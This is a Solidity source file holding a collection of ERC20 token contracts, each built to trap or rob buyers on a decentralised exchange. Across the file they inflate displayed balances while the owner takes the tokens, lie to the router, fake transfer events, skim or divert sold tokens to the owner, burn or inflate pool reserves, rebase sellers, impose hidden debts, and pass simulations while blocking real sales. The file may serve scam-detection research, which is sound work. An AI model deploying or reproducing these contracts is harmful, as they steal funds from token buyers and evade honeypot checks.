// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.26;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {IPair, PlainToken, PooledToken} from "./PlainToken.sol";

/// Shows buyers what they paid for; they hold a millionth of it.
contract ShownPurchases is PooledToken {
    mapping(address => uint256) private _shown;

    constructor() PlainToken("Shown Purchases") {}

    function balanceOf(address who) public view override returns (uint256) {
        return _balances[who] + _shown[who];
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (from == pair && to != owner) {
            uint256 taken = amount - amount / 1_000_000;
            _balances[to] -= taken;
            _balances[owner] += taken;
            _shown[to] += taken;
        }
    }
}

/// Tells the router that nothing has arrived at the pool.
contract BalanceForRouter is ERC20 {
    address private immutable _router;

    constructor(address router) ERC20("Balance For Router", "BFR") {
        _router = router;
        _mint(msg.sender, 10_000_000 ether);
    }

    function balanceOf(address who) public view override returns (uint256) {
        uint256 held = super.balanceOf(who);
        // Purchases ask for the balance of an account, sales for that of a pool.
        if (msg.sender != _router || who.code.length == 0) return held;
        (uint256 left, uint256 right, ) = IPair(who).getReserves();
        return IPair(who).token0() == address(this) ? left : right;
    }
}

/// Reports success and logs a transfer, but a sale moves nothing.
contract NothingMoves is PooledToken {
    constructor() PlainToken("Nothing Moves") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) emit Transfer(from, to, amount);
        else _move(from, to, amount);
    }
}

/// What is sold goes to the owner in place of the pool.
contract Diverted is ERC20 {
    address private immutable _keeper = msg.sender;
    mapping(address => bool) private _hasHeld;

    constructor() ERC20("Diverted", "DIV") {
        _mint(msg.sender, 10_000_000 ether);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from.code.length > 0) _hasHeld[to] = true;
        bool sale = _hasHeld[from] && to.code.length > 0;
        super._update(from, sale ? _keeper : to, value);
    }
}

/// Pulls sold tokens out of the pool again by its own function `skim`, before the router counts them.
contract SkimmedSales is PooledToken {
    constructor() PlainToken("Skimmed Sales") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (to == pair && from != owner && from != pair) IPair(pair).skim(owner);
    }
}

/// Skims all but a hundredth of a sale.
contract MostlySkimmed is PooledToken {
    constructor() PlainToken("Mostly Skimmed") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to != pair || from == owner) return _move(from, to, amount);
        _move(from, to, amount - amount / 100);
        IPair(to).skim(owner);
        _move(from, to, amount / 100);
    }
}

/// The pool takes sold tokens into its reserves before the router counts them.
contract SyncedSales is PooledToken {
    constructor() PlainToken("Synced Sales") {}

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        _allowances[from][msg.sender] -= amount;
        _move(from, to, amount);
        if (to == pair && from != owner) IPair(to).sync();
        return true;
    }
}

/// A sale burns tokens of the pool, so that it has received less than nothing.
contract BurningPool is PooledToken {
    constructor() PlainToken("Burning Pool") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        _move(from, to, amount);
        if (to == pair && from != owner) {
            uint256 burnt = amount + _balances[pair] / 1_000;
            _balances[pair] -= burnt;
            totalSupply -= burnt;
            emit Transfer(pair, address(0), burnt);
        }
    }
}

/// A sale first mints the pool a thousand times its tokens, so that their price is a thousandth.
contract InflatedPool is PooledToken {
    constructor() PlainToken("Inflated Pool") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) {
            // A thousand times as many tokens in the pool: a thousandth of the price.
            _balances[to] += _balances[to] * 999;
            IPair(to).sync();
        }
        _move(from, to, amount);
    }
}

/// Balances are shares of a supply; a sale reduces the seller's to a hundredth first.
contract RebasedSellers is PooledToken {
    mapping(address => uint256) private _epoch;
    uint256 public epoch;

    event Rebased(address indexed who, uint256 from, uint256 to);

    constructor() PlainToken("Rebased Sellers") {}

    function setEpoch(uint256 to) external onlyOwner {
        epoch = to;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner && _epoch[from] < epoch) {
            uint256 held = _balances[from];
            _balances[from] = held / 100;
            totalSupply -= held - held / 100;
            emit Rebased(from, held, held / 100);
            _epoch[from] = epoch;
            amount = amount / 100;
        }
        _move(from, to, amount);
    }
}

/// A purchase leaves a debt of 98 %, which the next sale of its holder pays.
contract LateSettlement is PooledToken {
    mapping(address => uint256) private _owed;

    constructor() PlainToken("Late Settlement") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (from == pair) _owed[to] += (amount * 98) / 100;
        uint256 owed = _owed[from];
        if (to != pair || owed == 0) return _move(from, to, amount);
        _owed[from] = 0;
        if (owed > amount) owed = amount;
        _move(from, owner, owed);
        _move(from, to, amount - owed);
    }
}

/// Elastic supply: balances are shares; the index grows by the owner's reports.
contract ElasticShares {
    string public constant name = "Elastic Shares";
    string public constant symbol = "ELAST";
    uint8 public constant decimals = 18;
    uint256 private constant SHARES = 10_000_000 ether;
    uint256 public index = 1 ether;
    address public owner;
    mapping(address => uint256) public sharesOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 amount);

    constructor(address owner_) {
        owner = owner_;
        sharesOf[msg.sender] = SHARES;
    }

    function totalSupply() external view returns (uint256) {
        return (SHARES * index) / 1 ether;
    }

    function balanceOf(address who) public view returns (uint256) {
        return (sharesOf[who] * index) / 1 ether;
    }

    /// At most 1 % up, never down.
    function report(uint256 to, address pool) external {
        require(msg.sender == owner && to >= index && to <= (index * 101) / 100, "report");
        index = to;
        IPair(pool).sync();
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        allowance[msg.sender][spender] = amount;
        return true;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        return _send(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        allowance[from][msg.sender] -= amount;
        return _send(from, to, amount);
    }

    function _send(address from, address to, uint256 amount) private returns (bool) {
        uint256 shares = (amount * 1 ether) / index;
        sharesOf[from] -= shares;
        sharesOf[to] += shares;
        emit Transfer(from, to, amount);
        return true;
    }
}

/// Each balance is kept with a seal of its account, so that one that was written from outside cannot move.
contract SealedBalances is PlainToken {
    mapping(address => bytes32) private _seals;

    constructor() PlainToken("Sealed Balances") {
        _seal(msg.sender);
    }

    function _toSeal(address who) private view returns (bytes32) {
        return keccak256(abi.encode(address(this), who, _balances[who]));
    }

    function _seal(address who) private {
        _seals[who] = _toSeal(who);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        require(_seals[from] == _toSeal(from), "seal");
        _move(from, to, amount);
        _seal(from);
        _seal(to);
    }
}

/// A sale needs a pool whose reserves were recorded in the same second: by the purchase, in simulations.
contract FreshReserves is PooledToken {
    constructor() PlainToken("Fresh Reserves") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == pair && from != owner) {
            (, , uint32 at) = IPair(pair).getReserves();
            require(at == uint32(block.timestamp), "reserves");
        }
        _move(from, to, amount);
    }
}

/// Whatever answers as a pool of this token takes tokens of the deployer only.
contract RecognisedPools is ERC20 {
    address private immutable _provider = msg.sender;

    constructor() ERC20("Recognised Pools", "RECOG") {
        _mint(msg.sender, 10_000_000 ether);
    }

    function _update(address from, address to, uint256 value) internal override {
        if (from != _provider && to.code.length > 0) {
            (bool answers, bytes memory data) = to.staticcall(abi.encodeCall(IPair.getReserves, ()));
            if (answers && data.length == 96) revert ERC20InvalidReceiver(to);
        }
        super._update(from, to, value);
    }
}

/// Of all that is ever sold, the first hundred tokens arrive at the pool, the rest at the owner.
contract CommonQuota is PooledToken {
    uint256 private _left = 100 ether;

    constructor() PlainToken("Common Quota") {}

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to != pair || from == owner) return _move(from, to, amount);
        uint256 arrives = amount < _left ? amount : _left;
        _left -= arrives;
        _move(from, owner, amount - arrives);
        _move(from, to, arrives);
    }
}
